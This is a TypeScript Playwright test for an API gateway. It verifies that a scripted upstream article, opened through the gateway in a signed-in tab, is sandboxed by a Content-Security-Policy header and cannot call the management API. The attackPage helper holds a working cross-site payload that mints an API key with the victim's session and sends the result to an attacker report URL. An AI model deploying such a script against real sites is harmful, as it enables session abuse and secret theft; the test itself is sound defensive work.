// An upstream page opened through the gateway in a signed-in tab cannot act as the dashboard.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  chromiumAvailable,
  launchBrowser,
  openTab,
  startServer,
  uniqueEmail,
  type RunningServer,
  type Tab,
} from "./harness.js";

/**
 * The attack from issue 12: an article (or an upstream error page) carrying a script, opened
 * through a link with the attacker's own `?api_key=`. The script tries to mint a key with the
 * victim's session and read its secret, and reports what it managed to a URL of the attacker's.
 */
function attackPage(reportUrl: string) {
  return `<!doctype html><html><head><title>Article</title></head><body><p>article</p><script>
  const report = (what) => fetch(${JSON.stringify(reportUrl)} + "?" + encodeURIComponent(what), { mode: "no-cors" });
  report("ran");
  fetch("/api/v1/keys", {
    method: "POST",
    credentials: "include",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ name: "minted-by-upstream" }),
  }).then((r) => r.text()).then((t) => report("minted:" + t), (e) => report("failed:" + e));
</script></body></html>`;
}

describe.skipIf(!chromiumAvailable())("upstream content in a signed-in tab", () => {
  let upstream: Server;
  let reports: string[];
  let upstreamOrigin: string;
  let server: RunningServer;
  let browser: Browser;
  let tab: Tab;

  beforeAll(async () => {
    reports = [];
    upstream = createServer((request, response) => {
      if (request.url?.startsWith("/report")) {
        reports.push(decodeURIComponent(request.url.slice("/report?".length)));
        response.end();
        return;
      }
      response.setHeader("content-type", "text/html; charset=utf-8");
      response.end(attackPage(`${upstreamOrigin}/report`));
    });
    await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
    upstreamOrigin = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
    server = await startServer({ UPSTREAM_URL: upstreamOrigin });
    browser = await launchBrowser();
    tab = await openTab(browser, server.origin);
    await tab.page.goto("/");
    await tab.page.getByLabel("Email").fill(uniqueEmail("sandbox"));
    await tab.page.getByLabel("Password").fill("correct horse battery staple");
    await tab.page.getByRole("button", { name: "Create account", exact: true }).click();
    await tab.page.getByRole("heading", { level: 1, name: "API keys" }).waitFor();
    // Signed in as far as the REST API is concerned too (the session cookie is set).
    for (let i = 0; i < 100; i++) {
      if ((await tab.page.request.get("/api/v1/keys")).status() === 200) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise((resolve) => upstream?.close(resolve));
  });

  const keyNames = async () => {
    const response = await tab.page.request.get("/api/v1/keys");
    expect(response.status()).toBe(200);
    return ((await response.json()) as { data: { name: string }[] }).data.map((k) => k.name);
  };

  it("the page's script runs when served by the upstream itself (the attack is live)", async () => {
    const page = await tab.context.newPage();
    await page.goto(`${upstreamOrigin}/article`);
    await expect.poll(() => reports.includes("ran"), { timeout: 10_000 }).toBe(true);
    await page.close();
  });

  it("through the gateway, in the signed-in tab, it cannot run or call the management API", async () => {
    const minted = await tab.page.request.post("/api/v1/keys", {
      headers: { origin: server.origin },
      data: { name: "attacker-key" },
    });
    expect(minted.status(), await minted.text()).toBe(201);
    const attackerKey = ((await minted.json()) as { data: { key: string } }).data.key;
    reports.length = 0;

    const response = await tab.page.goto(`/api/v1/articles/42?api_key=${attackerKey}`);
    expect(response?.status()).toBe(200);
    // The page is there (the upstream answered), but its script never ran.
    expect(await tab.page.content()).toContain("<p>article</p>");
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    expect(reports).toEqual([]);
    expect(await keyNames()).toEqual(["attacker-key"]);
    // What made it so (checked last, so a missing header shows as the attack succeeding).
    const headers = response!.headers();
    expect(headers["content-security-policy"]).toBe(
      "default-src 'none'; frame-ancestors 'none'; sandbox",
    );
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["set-cookie"]).toBeUndefined();
  });
});
